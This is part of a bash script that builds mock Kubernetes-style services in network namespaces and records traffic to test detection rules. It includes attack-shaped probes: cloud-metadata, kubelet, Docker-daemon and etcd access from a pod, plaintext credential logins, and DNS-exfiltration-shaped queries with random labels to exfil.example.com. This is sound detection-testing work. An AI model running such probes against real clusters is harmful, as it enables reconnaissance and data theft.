    printf '%s\n' listen=YES "listen_address=$ftp" background=NO anonymous_enable=YES "anon_root=$f/pub" \
        no_anon_password=YES local_enable=YES write_enable=NO pam_service_name=vsftpd \
        pasv_min_port=21100 pasv_max_port=21110 "secure_chroot_dir=$f/empty" seccomp_sandbox=NO \
        ssl_enable=NO "vsftpd_log_file=$f/vsftpd.log" >"$f/vsftpd.conf"
    start_bg $PREFIX-vsftpd vsftpd vsftpd "$f/vsftpd.conf"; pids+=($!)
    # Exim offering AUTH PLAIN and no STARTTLS (tls_advertise_hosts empty).
    chown -R Debian-exim "$e"
    printf '%s\n' 'primary_hostname = mail.svc' 'daemon_smtp_ports = 25' "local_interfaces = $smtp" \
        'tls_advertise_hosts =' 'auth_advertise_hosts = *' "spool_directory = $e/spool" \
        "log_file_path = $e/%slog" 'acl_smtp_rcpt = accept' \
        'begin authenticators' 'plain:' '  driver = plaintext' '  public_name = PLAIN' '  server_prompts = :' \
        '  server_condition = ${if and {{eq{$auth2}{alice}}{eq{$auth3}{wonderland}}}}' \
        '  server_set_id = $auth2' \
        'begin routers' 'discard:' '  driver = redirect' '  data = :blackhole:' >"$e/exim.conf"
    start_bg $PREFIX-exim exim exim4 -bdf -C "$e/exim.conf"; pids+=($!)
    start_bg $PREFIX-dnsmasq dnsmasq dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts \
        --bind-interfaces --listen-address="$dnsd" --port=53 --pid-file= --user=root \
        --local=/cluster.local/ --host-record=api.shop.svc.cluster.local,10.96.40.80 \
        --address=/exfil.example.com/192.0.2.53 --log-queries --log-facility=-
    pids+=($!)

    wait_until 10 tcp_listeners $PREFIX-metadata 80 2
    for p in 2379 2380 6443; do wait_until 10 listening cp-1 tcp "$p"; done
    for p in 10250 10255 2375 2376 30080 30081 9100; do wait_until 10 tcp_listeners "$NODE" "$p"; done
    wait_until 10 listening api tcp 8080
    wait_until 10 listening dovecot tcp 143
    wait_until 10 listening dovecot tcp 110
    wait_until 10 listening vsftpd tcp 21
    wait_until 10 listening exim tcp 25
    wait_until 10 listening dnsmasq udp 53
    capture_start rules-4c

    # 1. cloud-metadata: a pod over IPv4 and IPv6 (fires); the node, i.e. hostNetwork (must not).
    http_probe $PREFIX-client "http://$IMDS4/latest/meta-data/"; pause
    http_probe $PREFIX-client -g "http://[$IMDS6]/latest/meta-data/"; pause
    http_probe "$NODE" "http://$IMDS4/latest/meta-data/"; pause
    # 2. etcd-access: a pod and a worker node (fire); cp-2 and the pod on cp-1 (must not); plaintext
    #    on 2380 from cp-2 (the plaintext finding only).
    tls_probe $PREFIX-client "$cp1:2379" etcd; pause
    tls_probe "$NODE" "$cp1:2379" etcd; pause
    tls_probe $PREFIX-cp-2 "$cp1:2379" etcd; pause
    http_probe $PREFIX-cp-2 "http://$cp1:2380/"; pause
    tls_probe $PREFIX-cp-agent "$cp1:2379" etcd; pause
    # 3. kubelet-access: a pod on 10250 and 10255 (fire); cp-1 on 10250 (must not), on 10255 (fires).
    http_probe $PREFIX-client -k "https://$n1:10250/pods"; pause
    http_probe $PREFIX-client "http://$n1:10255/pods"; pause
    http_probe $PREFIX-cp-1 -k "https://$n1:10250/"; pause
    http_probe $PREFIX-cp-1 "http://$n1:10255/"; pause
    # 4. docker-daemon: a pod on 2375 and 2376 (fire); cp-1 on 2375 (fires), on 2376 (must not).
    http_probe $PREFIX-client "http://$n1:2375/version"; pause
    http_probe $PREFIX-client -k "https://$n1:2376/version"; pause
    http_probe $PREFIX-cp-1 "http://$n1:2375/version"; pause
    tls_probe $PREFIX-cp-1 "$n1:2376" docker; pause
    # 5. apiserver-plaintext: TLS to the kubernetes endpoint (must not), plain HTTP to it (fires;
    #    s_server answers no HTTP, the request has crossed).
    http_probe $PREFIX-client -k "https://$cp1:6443/version"; pause
    http_probe $PREFIX-client "http://$cp1:6443/version"; pause
    # 6. plaintext-credentials-protocol: HTTP Basic (fires), Bearer (must not); FTP anonymous (must
    #    not), FTP USER/PASS (fires, 530 after PASS); IMAP AUTHENTICATE PLAIN and LOGIN, POP3 AUTH
    #    PLAIN and USER/PASS, SMTP AUTH PLAIN, none after STARTTLS (all fire).
    http_probe $PREFIX-client -u alice:wonderland "http://$api:8080/"; pause
    http_probe $PREFIX-client -H 'Authorization: Bearer abc' "http://$api:8080/"; pause
    inpod client curl -sS --ftp-pasv "ftp://$ftp/" >/dev/null; pause
    inpod client curl -sS --ftp-pasv "ftp://alice:wonderland@$ftp/" >/dev/null 2>>"$t/curl.log" \
        || log "ftp as alice: curl $? (login refused after PASS, as intended)"; pause
    # IMAP and POP3 twice each: curl authenticates with SASL PLAIN (AUTHENTICATE PLAIN, AUTH PLAIN),
    # Python's imaplib and poplib with the protocols' own LOGIN and USER/PASS commands.
    inpod client curl -sS "imap://alice:wonderland@$imap/INBOX?ALL" >/dev/null; pause   # SELECT, SEARCH ALL
    inpod client python3 -c 'import imaplib, sys
m = imaplib.IMAP4(sys.argv[1]); print("imaplib", m.login("alice", "wonderland")[0]); m.logout()' "$imap"
    pause
    inpod client curl -sS "pop3://alice:wonderland@$imap/" >/dev/null; pause            # LIST
    inpod client python3 -c 'import poplib, sys
p = poplib.POP3(sys.argv[1]); p.user("alice"); p.pass_("wonderland"); print("poplib", p.stat()); p.quit()' "$imap"
    pause
    printf 'Subject: hello\r\n\r\nno STARTTLS\r\n' >"$t/mail.txt"
    inpod client curl -sS -u alice:wonderland --mail-from a@shop.example --mail-rcpt b@mail.example \
        -T "$t/mail.txt" "smtp://$smtp/shop.example"; pause                                  # EHLO, AUTH PLAIN
    # 7. nodeport-external: from outside to shop/web's 30080 (fires) and to the annotated
    #    shop/store's 30081 (must not); a pod to 30080 (must not).
    http_probe $PREFIX-external "http://$n1:30080/"; pause
    http_probe $PREFIX-external "http://$n1:30081/"; pause
    http_probe $PREFIX-client "http://$n1:30080/"; pause
    # 8. host-network-listener: a pod to node-exporter's 9100 on the node address (fires).
    http_probe $PREFIX-client "http://$n1:9100/metrics"; pause
    # 9. dns-exfil-shape: one ordinary name, then three long random ones (two 52-character labels).
    local q=(+tries=1 +time=2 +nocookie +short) i label
    inpod client dig "${q[@]}" @"$dnsd" api.shop.svc.cluster.local A; pause
    for i in 1 2 3; do
        label=$(head -c 65 /dev/urandom | base32 -w0 | tr -d = | tr A-Z a-z)
        inpod client dig "${q[@]}" @"$dnsd" "${label:0:52}.${label:52:52}.exfil.example.com" A; pause
    done
    capture_stop
    for p in "${pids[@]}"; do stop_pid "$p"; done
    teardown_scenario
}

summary() {
    local s
    printf '\n%-26s %8s %8s  %s\n' scenario packets bytes linktype
    for s in "$@"; do
        local f=$HERE/$s/capture.pcap
        [[ -f $f ]] || { printf '%-26s missing\n' "$s"; continue; }
        printf '%-26s %8s %8s  %s\n' "$s" "$(tcpdump -r "$f" -n 2>/dev/null | wc -l)" \
            "$(stat -c %s "$f")" "$(tcpdump -r "$f" -c 1 2>&1 >/dev/null | sed -n 's/.*link-type //p')"
    done
}

main() {
    local scenarios=("$@") s
    ((${#scenarios[@]})) || scenarios=("${ALL_SCENARIOS[@]}")
    for s in "${scenarios[@]}"; do
        [[ " ${ALL_SCENARIOS[*]} " == *" $s "* ]] || die "unknown scenario $s (${ALL_SCENARIOS[*]})"
    done
    install_deps
    for s in "${scenarios[@]}"; do
        ip netns list | grep -q "^$PREFIX-" && die "stale $PREFIX-* namespaces exist; delete them first"
        log "== $s"
        "scenario_${s//-/_}"
    done
    summary "${scenarios[@]}"
}

TMP=$(mktemp -d /tmp/fwrec.XXXXXX)
trap cleanup EXIT
trap 'exit 130' INT TERM
main "$@"
